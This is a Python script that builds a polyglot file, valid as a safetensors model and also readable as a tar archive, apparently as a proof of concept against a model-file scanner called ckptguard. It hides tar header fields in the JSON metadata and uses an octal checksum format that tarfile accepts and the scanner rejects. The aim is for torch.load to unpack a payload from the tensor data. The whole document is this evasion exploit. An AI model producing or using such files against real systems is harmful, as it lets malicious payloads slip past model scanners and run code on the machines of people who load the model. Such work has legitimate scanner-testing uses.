#!/usr/bin/python3
"""A valid safetensors file that is also a tar for Python's tarfile: tar header 0's fields sit in a
__metadata__ string of the JSON header (checksum spelled "0o" + 6 octal digits, which ckptguard's
TarChecksumOk refuses and tarfile.nti accepts), tar header 1 'storages' and the payload in the tensor
data. torch.load on it tries tarfile first. Usage: tar_in_safetensors.py OUT MARKER"""
import sys, struct, json
from tarblocks import header as tar_header, payload
def build(marker):
    pay = payload(marker)
    data = tar_header(b'storages', len(pay)) + pay
    data += b'\0' * ((-len(data)) % 512) + b'\0' * 1024
    k = len(data) // 4
    head = b'{"__metadata__":{"a":"'
    tail = b'"},"w":{"dtype":"F32","shape":[%d],"data_offsets":[0,%d]}}' % (k, 4 * k)
    n = 512 - 8
    filler_len = 350 - 8 - len(head)       # string content runs from offset 8+len(head) to 350
    js = bytearray(head + b'a' * filler_len + tail)
    js += b' ' * (n - len(js))
    out = bytearray(struct.pack('<Q', n) + js)
    for off, f in [(100, b'0000644 '), (108, b'0000000 '), (116, b'0000000 '), (124, b'00000000000 '),
                   (136, b'00000000000 '), (156, b'0'), (329, b'0000000 '), (337, b'0000000 ')]:
        out[off:off + len(f)] = f
    out[148:156] = b' ' * 8
    out[148:156] = b'0o%06o' % sum(out)
    json.loads(bytes(out[8:512]))
    return bytes(out) + data
if __name__ == '__main__':
    open(sys.argv[1], 'wb').write(build(sys.argv[2]))
